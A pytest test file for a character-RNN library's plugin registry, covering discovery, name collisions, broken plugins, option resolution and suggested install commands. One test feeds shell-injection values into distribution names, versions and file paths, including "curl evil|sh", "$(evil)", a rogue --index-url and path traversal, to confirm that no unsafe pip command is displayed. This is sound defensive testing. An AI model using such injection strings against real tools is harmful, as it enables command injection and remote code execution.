"""Finding plugins, and what happens when they break, collide or are misspelt."""

import re
import types

import pytest

from charrnn_core import CellPlugin, LossPlugin, hookimpl
from charrnn_core.errors import (
    AmbiguousNameError,
    OptionError,
    PluginError,
    UnknownNameError,
)
from charrnn_core.registry.listing import describe_plugin, list_plugins, list_requirements
from charrnn_core.registry.registry import Registry
from charrnn_core.registry.spec import Ref


def module(**hooks):
    """A plugin module with these hook implementations."""
    made = types.ModuleType("a_plugin")
    for name, function in hooks.items():
        setattr(made, name, hookimpl(function))
    return made


def cells(*names, **fields):
    return module(
        charrnn_cells=lambda: [CellPlugin(name=n, target="json:loads", **fields) for n in names]
    )


def make(**plugins) -> Registry:
    """A registry of ``distribution=module`` pairs."""
    registry = Registry()
    for distribution, plugin in plugins.items():
        registry.add(lambda plugin=plugin: plugin, "entry", distribution, "1.2.0")
    return registry


def broken():
    raise RuntimeError("no such luck")


def test_builtins_come_through_entry_points(registry):
    assert {"elman", "stacked"} <= set(registry.names("cell"))
    assert {"gutenberg", "file", "python-docs"} <= set(registry.names("source"))
    assert not [fault for fault in registry.faults if fault.distribution == "charrnn"]


@pytest.mark.parametrize("name", ["elman", "charrnn"])
def test_plugins_can_be_disabled(name):
    assert "elman" not in Registry.installed({"CHARRNN_DISABLE_PLUGINS": name}).names("cell")


def test_unknown_names_list_the_nearest(registry):
    with pytest.raises(UnknownNameError, match="no cell named 'elmann' .did you mean 'elman'"):
        registry.find("cell", "elmann")


def test_without_any_plugin_the_error_says_so():
    with pytest.raises(UnknownNameError, match="run 'pip install .' in the checkout"):
        Registry().find("cell", "elman")


def test_two_providers_are_an_error_only_on_use():
    registry = make(one=cells("elman", "only"), two=cells("elman"))
    assert registry.find("cell", "only").distribution == "one"
    with pytest.raises(AmbiguousNameError, match="one 1.2.0 and two 1.2.0; choose one: one/elman"):
        registry.find("cell", "elman")
    assert registry.find("cell", "two/elman").distribution == "two"
    mine = registry.preferring([{"kind": "cell", "name": "elman", "distribution": "Two"}])
    assert mine.find("cell", "elman").distribution == "two"
    status = {row["distribution"]: row["status"] for row in list_plugins(registry)}
    assert "ambiguous" in status["two"]


@pytest.mark.parametrize(
    "plugin, reason",
    [
        (module(charrnn_cells=broken), "RuntimeError: no such luck"),
        (
            module(charrnn_cell=lambda: []),
            "no hook named 'charrnn_cell' .did you mean 'charrnn_cells'",
        ),
        (
            module(charrnn_cells=lambda: [LossPlugin(name="ce", target="a:b")]),
            "expected CellPlugin",
        ),
        (module(charrnn_cells=lambda: ["elman"]), "yielded 'elman'; expected CellPlugin"),
        (cells("ok", api=99), "needs plugin API 99"),
    ],
)
def test_a_broken_plugin_is_recorded_and_harms_nobody(plugin, reason):
    registry = make(bad=plugin, good=cells("elman"))
    assert registry.find("cell", "elman").distribution == "good"
    [fault] = registry.faults
    assert fault.distribution == "bad"
    with pytest.raises(UnknownNameError, match=f"of bad 1.2.0 failed to load: .*{reason}"):
        registry.find("cell", "lru")
    assert any(row["status"].startswith("failed: ") for row in list_plugins(registry))


def test_a_plugin_that_fails_on_import_or_exits():
    registry = Registry()
    registry.add(broken, "one", "dist")
    registry.add(lambda: exit(3), "two", "dist")
    assert [fault.entry_point for fault in registry.faults] == ["one", "two"]
    strict = Registry(strict=True)
    with pytest.raises(RuntimeError, match="no such luck"):
        strict.add(broken, "one", "dist")


def test_resolving_fills_in_everything(registry):
    resolved = registry.resolve("cell", Ref.parse("stacked:elman:8,stacked:elman:4"))
    first, second = resolved.options["layers"]
    assert first.options == {"features": 8, "activation": "tanh", "recurrent_init": "orthogonal"}
    assert second.options["layers"][0].options["features"] == 4


@pytest.mark.parametrize(
    "spec, error, message",
    [
        ({"use": "elman:8", "features": 9}, OptionError, "features is given twice"),
        (
            {"use": "elman", "hidden": 9},
            UnknownNameError,
            "no option of cell 'elman' named 'hidden'",
        ),
        ("stacked", OptionError, "cell 'stacked' needs the option 'layers'"),
        ("stacked:elman:0", OptionError, "option 'features' of cell 'elman' is 0"),
        ("stacked:" * 20 + "elman", OptionError, "nested more than 8 deep"),
        ("stacked:elmann", UnknownNameError, "no cell named 'elmann'"),
    ],
)
def test_resolving_refuses_what_does_not_fit(registry, spec, error, message):
    with pytest.raises(error, match=message):
        registry.resolve("cell", Ref.parse(spec))


def test_an_argument_nobody_takes(registry):
    with pytest.raises(OptionError, match="loss 'crossentropy' takes no argument; got '3'"):
        registry.resolve("loss", Ref.parse("crossentropy:3"))


def test_records_name_nested_plugins(registry):
    records = registry.records("cell", registry.resolve("cell", Ref.parse("stacked:elman:8*2")))
    assert [record["name"] for record in records] == ["stacked", "elman"]
    for record in records:
        registry.require(record)


@pytest.mark.parametrize(
    "change, message",
    [
        ({"name": "lru", "distribution": "charrnn-lru"}, "pip install 'charrnn-lru==0.1.0'"),
        ({"state_version": 7}, "with state version 7; installed is 0.1.0 with state version 1"),
    ],
)
def test_a_remembered_plugin_must_be_here(registry, change, message):
    with pytest.raises(PluginError, match=message):
        registry.require(registry.find("cell", "elman").record() | change)


def record(name, distribution="bad"):
    return {
        "kind": "cell", "name": name, "distribution": distribution, "version": "1.0",
        "state_version": 1,
    }  # fmt: skip


def half_broken():
    yield CellPlugin(name="sound", target="json:loads")
    raise RuntimeError("no such luck")


def test_what_breaks_takes_nothing_sound_along():
    """Neither another entry point, nor another hook, nor what a hook had yielded before."""
    registry = make(bad=module(
        charrnn_cells=half_broken,
        charrnn_losses=lambda: [LossPlugin(name="loss", target="json:loads")],
        charrnn_samplers=broken,
        charrnn_cels=lambda: [],
    ))  # fmt: skip
    registry.add(broken, "other", "bad", "1.2.0")
    registry.require(record("sound"))
    assert registry.find("loss", "loss").distribution == "bad"
    errors = [fault.error for fault in registry.faults]
    assert len(errors) == 4 and sum("no such luck" in error for error in errors) == 3
    assert "no hook named 'charrnn_cels'" in errors[0]
    status = {row["name"]: row["status"] for row in list_plugins(registry)}
    assert status["sound"] == "ok" and status["other"].startswith("failed: RuntimeError")
    with pytest.raises(PluginError, match="comes from bad 1.0, but plugin 'entry' .*'other' of"):
        registry.require(record("lost"))
    with pytest.raises(PluginError, match="pip install 'charrnn-lru==1.0'"):
        registry.require(record("lost", "charrnn-lru"))  # the others' faults are none of its own


def test_a_name_that_one_distribution_offers_twice_is_a_fault():
    registry = make(one=cells("elman"))
    registry.add(lambda: cells("elman", "more"), "again", "One", "1.2.0")
    assert registry.find("cell", "elman").entry_point == "entry"
    assert registry.find("cell", "more").entry_point == "again"
    [fault] = registry.faults
    assert "cell 'elman' is already offered by the entry point 'entry' of the same" in fault.error


def unmarked():
    made = types.ModuleType("a_plugin")
    exec("def charrnn_cells():\n    yield 1", made.__dict__)
    return made


@pytest.mark.parametrize(
    "plugin, reason",
    [
        (module(), "it offers nothing: no function in it is marked with @hookimpl"),
        (module(charrnn_cells=lambda: []), "it offers nothing: charrnn_cells yields nothing"),
        (
            module(charrnn_cells=lambda: None),
            "charrnn_cells returned None; expected it to yield Cell",
        ),
        (unmarked(), "charrnn_cells is not marked with @hookimpl"),
        (object(), "it offers nothing: no function"),
    ],
)
def test_what_offers_nothing_is_a_fault(plugin, reason):
    registry = make(bad=plugin)
    [fault] = registry.faults
    assert reason in fault.error and fault.entry_point == "entry"
    [row] = list_plugins(registry)
    assert row["status"] == f"failed: {fault.error}"


HOSTILE = "x'; curl evil|sh; '"


@pytest.mark.parametrize(
    "distribution, version",
    [
        (HOSTILE, "1.0"), ("good", HOSTILE), ("good", "$(evil)"), ("-r", "1.0"), ("a b", "1.0"),
        ("good\n", "1.0"), ("good", "1.0\n"), ("ſ", "1.0"), ("", "1.0"), ("good", "unknown"),
        ("good", "1.0`evil`"), ("good", "1.0 --index-url http://evil"), ("good", "1٣"),
    ],
)  # fmt: skip
def test_only_what_pip_takes_is_shown_as_a_command(distribution, version):
    made = record("lru", distribution) | {"version": version}
    with pytest.raises(PluginError) as raised:
        make(**{distribution: module(charrnn_cells=broken)}).require(made | {"name": "no"})
    assert "pip install" not in str(raised.value)
    with pytest.raises(PluginError) as raised:
        Registry().require(made)
    assert "pip install" not in str(raised.value) and "ask whoever made" in str(raised.value)
    registry = make(**{distribution: cells("lru")})
    with pytest.raises(PluginError, match="ask whoever made the file") as raised:
        registry.require(made | {"state_version": 7})
    assert "pip install" not in str(raised.value)
    registry.add(lambda: cells("lru"), "entry", distribution + "!", version)
    assert all(line.startswith("# ") for line in list_requirements(registry) if "!" in line)


@pytest.mark.parametrize(
    "version", ["1", "1.0.post1", "2!1.0", "1.0rc1", "1.0.dev3", "1.0+local.7", "2024.1", "v1.0-1"]
)
def test_what_pip_takes_is_shown_as_a_command(version):
    with pytest.raises(PluginError, match=re.escape(f"pip install 'A.b_c-d=={version}'")):
        Registry().require(record("lru", "A.b_c-d") | {"version": version})


@pytest.mark.parametrize(
    "file, shown",
    [
        ("my cell.py", "--plugin 'RUN/plugins/my cell.py'"),
        ("x; evil.py", "--plugin 'RUN/plugins/x; evil.py'"),
        ("../../evil.py", "ask whoever made the file"),
        ("/etc/evil.py", "ask whoever made the file"),
    ],
)
def test_a_file_is_named_as_a_shell_takes_it(file, shown):
    made = record("lru", file) | {"version": "sha256-12", "file": True}
    with pytest.raises(PluginError) as raised:
        Registry().require(made)
    assert str(raised.value).endswith(shown)


def test_a_remembered_plugin_that_is_broken_now():
    registry = make(bad=module(charrnn_cells=broken))
    record = {
        "kind": "cell",
        "name": "x1",
        "distribution": "bad",
        "version": "1",
        "state_version": 1,
    }
    with pytest.raises(PluginError, match="no such luck"):
        registry.require(record)


def test_a_target_that_cannot_be_imported_names_its_distribution():
    registry = make(lost=module(charrnn_cells=lambda: [CellPlugin(name="gone", target="no:where")]))
    with pytest.raises(PluginError, match="No module named 'no'; it comes from lost 1.2.0"):
        registry.load("cell", Ref("gone"))


def test_descriptions_show_options(registry):
    table = describe_plugin("cell", "elman", registry)
    assert table["spec"] == "elman:FEATURES"
    features = table["options"][0]
    assert features == {
        "name": "features", "type": "int", "default": 256, "bounds": ">= 1",
        "help": "width of the hidden state (H)",
    }  # fmt: skip
    with pytest.raises(UnknownNameError, match="did you mean 'cell'"):
        describe_plugin("cel", "elman", registry)
